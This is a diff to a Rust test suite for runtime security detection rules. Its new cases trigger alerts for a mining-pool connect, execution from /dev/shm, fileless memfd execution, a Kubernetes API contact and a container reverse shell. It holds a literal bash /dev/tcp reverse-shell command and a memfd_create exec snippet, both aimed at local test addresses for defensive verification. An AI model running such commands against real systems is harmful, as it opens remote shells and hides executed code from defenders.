@@ -219,6 +219,32 @@ fn host_behaviours() {
         ],
     ));
 
+    // The same with a non-blocking connect (EINPROGRESS), as miners built on libuv do.
+    let m = unique("poolnb");
+    let out = ns
+        .command(&[
+            "/usr/bin/python3",
+            "-c",
+            &format!(
+                "import socket, select  # {m}
+s = socket.socket(); s.setblocking(False)
+assert s.connect_ex(('10.77.0.1', 3333)) == 115  # EINPROGRESS
+select.select([], [s], [], 10)"
+            ),
+        ])
+        .output()
+        .unwrap();
+    assert!(out.status.success(), "{out:?}");
+    cases.push(case(
+        "Connection to mining pool port",
+        "a non-blocking connect to 10.77.0.1:3333",
+        vec![
+            ("proc.cmdline", has(&m)),
+            ("fd.name", has("10.77.0.1:3333")),
+            host(),
+        ],
+    ));
+
     // DNS lookup of mining pool: a real query and answer, against a DNS server in the namespace.
     let _dns = ns.dns_server();
     let name = format!("{}.supportxmr.com", unique("dns"));
@@ -557,6 +583,14 @@ os.execv('/proc/self/fd/%d' % fd, ['ktmemfd', '{m}'])"
         "base64 -d > file",
         vec![("proc.pid", is(pid))],
     ));
+    // runuser (util-linux, what service scripts use to drop to a service account) reads the PAM
+    // configuration: its job.
+    let pid = spawn_wait("runuser", &["-u", "nobody", "--", "/bin/true"]);
+    cases.push(quiet(
+        "Read sensitive file untrusted",
+        "runuser -u nobody -- true",
+        vec![("proc.pid", is(pid))],
+    ));
     // passwd reads /etc/shadow to report an account's status: its job.
     let pid = spawn_wait("passwd", &["-S", "root"]);
     cases.push(quiet(
@@ -600,6 +634,9 @@ fn container_behaviours() {
         &[
             &ns.podman_arg(),
             "--dns=127.0.0.1",
+            // /dev/shm as a pod's memory-backed emptyDir gives it: executable (podman's own
+            // is noexec).
+            "--tmpfs=/dev/shm:rw,exec,size=65536k",
             "-v",
             &format!("{}:/opt/kt-tools:ro", tools.display()),
             "-v",
@@ -645,7 +682,65 @@ fn container_behaviours() {
         ],
     ));
 
-    // Launch package management process in container: the image's real dpkg.
+    // Execution from /dev/shm and fileless execution, inside the container.
+    let m = unique("ctrshm");
+    c.sh(&format!(
+        "cp /bin/true /dev/shm/ktshm && /dev/shm/ktshm {m}"
+    ));
+    cases.push(case(
+        "Execution from /dev/shm",
+        "a program run from the container's /dev/shm",
+        vec![
+            ("proc.exepath", is("/dev/shm/ktshm")),
+            ("proc.cmdline", has(&m)),
+            ctr(),
+        ],
+    ));
+    let m = unique("ctrmemfd");
+    c.sh(&format!(
+        "python3 -c \"import os\nfd = os.memfd_create('x', 0)\nos.write(fd, open('/bin/true', 'rb').read())\nos.execv('/proc/self/fd/%d' % fd, ['x', '{m}'])\""
+    ));
+    cases.push(case(
+        "Fileless execution via memfd_create",
+        "exec of a memfd in the container",
+        vec![("proc.cmdline", has(&m)), ctr()],
+    ));
+
+    // Reverse shell connection from the container (to a listener in its network namespace).
+    let m = unique("ctrrev");
+    let out = c.exec(&[
+        "bash",
+        "-c",
+        &format!("bash -i >& /dev/tcp/10.77.0.1/9001 0>&1 # {m}"),
+    ]);
+    assert!(
+        out.status.success() || out.status.code() == Some(141),
+        "{out:?}"
+    );
+    cases.push(case(
+        "Reverse shell connection",
+        "bash -i >& /dev/tcp/... in the container",
+        vec![
+            ("proc.name", is("bash")),
+            ("proc.cmdline", has(&m)),
+            ("fd.name", has("10.77.0.1:9001")),
+            ctr(),
+            ctr_name(),
+        ],
+    ));
+
+    // Launch package management process in container: the image's real pip (the app's venv)
+    // and dpkg.
+    c.sh("/opt/app/venv/bin/pip --version");
+    cases.push(case(
+        "Launch package management process in container",
+        "pip",
+        vec![
+            ("proc.name", is("pip")),
+            ("proc.cmdline", has("--version")),
+            ctr(),
+        ],
+    ));
     c.sh("dpkg --print-architecture");
     cases.push(case(
         "Launch package management process in container",
@@ -792,6 +887,20 @@ fn container_behaviours() {
             ("priority", is("Notice")),
             ctr(),
             ctr_name(),
+        ],
+    ));
+    // Go's net package (client-go, kubectl) connects non-blocking: EINPROGRESS.
+    let m = unique("apinb");
+    c.sh(&format!(
+        "python3 -c \"import socket, select  # {m}\ns = socket.socket(); s.setblocking(False)\nassert s.connect_ex(('10.96.0.1', 443)) == 115\nselect.select([], [s], [], 10)\""
+    ));
+    cases.push(case(
+        "Contact K8S API server from container",
+        "a non-blocking connect to 10.96.0.1:443",
+        vec![
+            ("proc.cmdline", has(&m)),
+            ("fd.name", has("10.96.0.1:443")),
+            ctr(),
         ],
     ));
     let m = unique("apiport");
